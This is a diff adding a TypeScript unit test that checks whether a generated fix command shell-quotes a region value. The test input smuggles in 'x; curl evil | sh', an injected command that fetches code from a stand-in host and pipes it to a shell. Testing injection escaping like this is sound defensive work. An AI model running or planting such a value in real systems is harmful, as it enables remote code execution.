@@ -103,6 +103,13 @@ const withReason = (reason: object) =>
   });
 
 describe('a sentence in a saved plan', () => {
+  it('quotes a region for the shell, where its fix is a command', () => {
+    const missing = { id: 'crs-cccc0001', region: 'x; curl evil | sh', elsewhere: null, near: null };
+    const code = 'ResourceNotFound.InstanceNotExists';
+    const forged = withBlocker({ code, messageId: 'rule.instance-missing', params: missing });
+    expect(readSavedPlan(forged).blocked[0]!.findings[0]!.fix).toContain("--region 'x; curl evil | sh'");
+  });
+
   const permits = { id: 'policy.limit', params: { of: 'instances', most: 9, value: 9 } };
   const price = {
     id: 'crs-aaaa0001',
